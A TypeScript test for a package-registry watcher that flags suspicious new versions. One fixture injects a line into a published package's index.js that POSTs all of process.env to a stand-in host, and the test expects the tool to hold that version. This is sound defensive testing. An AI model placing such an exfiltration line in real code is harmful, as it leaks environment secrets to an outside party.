import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { test } from 'node:test'
import { library, manifest, with_ } from '../doors/packages/incidents/incident.ts'
import { fakeRegistry } from '../http/registry/testing/fake-registry.ts'
import { run } from './watch.ts'

test('watch --once: judges what is new since last time, and says so by its exit code', async () => {
  const before = process.env['XDG_CACHE_HOME']
  const folder = (process.env['XDG_CACHE_HOME'] = mkdtempSync(path.join(tmpdir(), 'sallyport-watch-')))
  const upstream = await fakeRegistry()
  const lines: string[] = []
  const watch = (): Promise<number> => run(['--registry', upstream.url, '--once', 'lib-a'], (line) => lines.push(line))
  try {
    upstream.publish('lib-a', '1.4.0', { 'package.json': manifest('lib-a', '1.4.0'), 'index.js': library })
    upstream.publish('other', '1.0.0', { 'package.json': manifest('other', '1.0.0'), 'index.js': library })
    assert.equal(await watch(), 0)
    assert.deepEqual(lines.splice(0), ['pass  lib-a@1.4.0  Nothing speaks against it.'])
    assert.equal(await watch(), 0)
    assert.deepEqual(lines, [])
    upstream.publish('lib-a', '1.4.1', {
      'package.json': manifest('lib-a', '1.4.1'),
      'index.js': with_("fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) });"),
    })
    assert.equal(await watch(), 1)
    assert.match(lines[0] ?? '', /^HELD {2}lib-a@1\.4\.1 /)
    upstream.fail(500)
    await assert.rejects(watch(), { code: 'SP_REGISTRY' })
  } finally {
    await upstream.stop()
    rmSync(folder, { recursive: true, force: true })
    if (before === undefined) delete process.env['XDG_CACHE_HOME']
    else process.env['XDG_CACHE_HOME'] = before
  }
})
